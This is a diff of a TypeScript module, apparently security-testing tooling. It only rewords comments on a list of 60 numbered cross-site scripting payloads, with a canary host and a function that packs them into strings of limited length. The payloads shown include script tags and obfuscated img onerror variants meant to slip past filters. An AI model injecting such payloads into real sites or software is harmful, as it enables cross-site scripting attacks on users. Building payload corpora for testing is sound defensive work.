@@ -1,7 +1,7 @@
 /** The host that payloads load from or lead to. */
 export const CANARY_HOST = "canary.example";
 
-/** Each calls the global function `xss`, leads to the canary host or loads from it. */
+/** Payloads that call the global function `xss`, lead to the canary host or load from it. */
 const TEMPLATES: readonly string[] = [
   // Elements that run by themselves.
   "<script>xss()</script>",
@@ -70,12 +70,15 @@ const TEMPLATES: readonly string[] = [
   "\uff1cimg src=x onerror=xss()\uff1e<img src=x onerror\u200b=xss()>",
 ];
 
-/** 60 texts that run a script where a page shows them as markup, with their numbers. */
+/** Numbered texts, 60 in all, that run a script where a page shows them as markup. */
 export const SCRIPT_PAYLOADS: readonly string[] = TEMPLATES.map((template, index) =>
   template.replaceAll("xss()", `xss(${index + 1})`),
 );
 
-/** The payloads in as few texts of the length as possible; those that are longer are left out. */
+/**
+ * Packs the payloads into as few texts of the length as possible; those that are longer are left
+ * out.
+ */
 export function packPayloads(maxLength: number, separator = " "): string[] {
   const packed: string[] = [];
   for (const payload of SCRIPT_PAYLOADS.filter(({ length }) => length <= maxLength)) {
